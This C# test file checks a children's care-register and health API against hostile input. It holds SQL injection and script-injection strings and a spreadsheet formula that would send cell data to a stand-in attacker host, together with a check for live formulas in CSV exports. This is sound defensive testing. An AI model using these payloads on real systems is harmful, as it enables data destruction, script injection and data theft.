using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;

namespace Partnership.Security.Tests.HostileInput;

/// <summary>
/// Text that means something to SQL, HTML or a spreadsheet is data like any other: stored and returned exactly, never
/// executed; exported files neutralise formulas; codes outside their list are field errors.
/// </summary>
public sealed class FreeTextAndEnumTests(HostileInputFixture fixture) : IClassFixture<HostileInputFixture>
{
    private const string SqlText = "Robert'); DROP TABLE children; -- \" ; SELECT pg_sleep(5); /*";
    private const string HtmlText = "<script>alert('x')</script><img src=x onerror=alert(1)> O'Brien & \"Sons\"";
    private const string FormulaText = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"open\")";

    [Fact]
    public async Task Sql_and_html_metacharacters_in_names_are_stored_and_returned_verbatim()
    {
        using var http = await fixture.ClientAsync(fixture.CareRegister, "social-care-system");
        var created = await http.PostAsJsonAsync("/api/care-register/children", new
        {
            givenName = SqlText, familyName = HtmlText, dateOfBirth = "2014-05-17", sex = 2, ethnicity = "WBRI",
        });
        var createdBody = await created.Content.ReadAsStringAsync();
        Assert.True(created.StatusCode == HttpStatusCode.Created, createdBody);
        var childKey = JsonDocument.Parse(createdBody).RootElement.GetProperty("childKey").GetString();

        using var read = await http.GetAsync($"/api/care-register/children/{childKey}");
        // ASP.NET Core writes JSON with relaxed escaping, so markup travels as is: it is only ever served as JSON.
        Assert.Equal("application/json", read.Content.Headers.ContentType?.MediaType);
        var child = JsonDocument.Parse(await read.Content.ReadAsStringAsync()).RootElement;
        Assert.Equal(SqlText, child.GetProperty("givenName").GetString());
        Assert.Equal(HtmlText, child.GetProperty("familyName").GetString());
        await HostileInputFixture.AssertStillHealthyAsync(fixture.CareRegister);
    }

    [Fact]
    public async Task Formula_sql_and_html_text_in_a_manual_value_round_trips_and_no_export_carries_a_live_formula()
    {
        using var member = await fixture.BoardMemberAsync();
        var created = await member.PostAsJsonAsync("/api/board/indicators/1.3/manual-values",
            new { year = 2016, value = 9, source = FormulaText, note = SqlText + HtmlText });
        Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());

        var history = JsonDocument.Parse(await member.GetStringAsync("/api/board/indicators/1.3/manual-values")).RootElement;
        var entry = history.EnumerateArray().First();
        Assert.Equal(FormulaText, entry.GetProperty("source").GetString());
        Assert.Equal(SqlText + HtmlText, entry.GetProperty("note").GetString());

        foreach (var export in new[] { "/api/board/plans?format=csv", "/api/board/indicators?year=2016&format=csv", "/api/board/indicators/1.3?format=csv" })
        {
            using var response = await member.GetAsync(export);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
            var live = CsvCells.Of(await response.Content.ReadAsStringAsync()).Where(IsLiveFormula).ToList();
            Assert.True(live.Count == 0, $"{export} has cells a spreadsheet would run: {string.Join(" | ", live.Take(5))}");
        }
    }

    /// <summary>Cells starting = + - @ (or tab/CR) are formulas to a spreadsheet unless they are plain numbers.</summary>
    private static bool IsLiveFormula(string cell) =>
        cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r'
        && !decimal.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _);

    [Fact]
    public async Task An_unknown_assessment_type_is_a_field_error_and_stores_nothing()
    {
        using var http = await fixture.ClientAsync(fixture.Health, "health-system");
        var problem = await Refusal.AssertRefusedAsync(fixture.Health, () => http.PostAsJsonAsync("/api/health/assessments", new
        {
            childKey = "SEC-ENUM-0001", assessmentType = "Teleportation", dueDate = "2026-10-01", completedOn = "2026-10-01",
        }));
        Assert.Contains(problem!.Value.GetProperty("errors").EnumerateObject(), e => e.Name.Equals("assessmentType", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task Unknown_codes_for_a_child_are_field_errors_and_store_nothing()
    {
        using var http = await fixture.ClientAsync(fixture.CareRegister, "social-care-system");
        var problem = await Refusal.AssertRefusedAsync(fixture.CareRegister, () => http.PostAsJsonAsync("/api/care-register/children", new
        {
            givenName = "Enum", familyName = "Test", dateOfBirth = "2014-05-17", sex = 7, ethnicity = "ZZZZ",
        }));
        var fields = problem!.Value.GetProperty("errors").EnumerateObject().Select(e => e.Name.ToLowerInvariant()).ToList();
        Assert.Contains("sex", fields);
        Assert.Contains("ethnicity", fields);
    }

    [Fact]
    public async Task An_enum_given_as_a_number_where_a_name_is_expected_is_a_field_error()
    {
        using var http = await fixture.ClientAsync(fixture.Health, "health-system");
        await Refusal.AssertRefusedAsync(fixture.Health, () => http.PostAsJsonAsync("/api/health/assessments", new
        {
            childKey = "SEC-ENUM-0002", assessmentType = 99, dueDate = "2026-10-01", completedOn = "2026-10-01",
        }));
    }
}
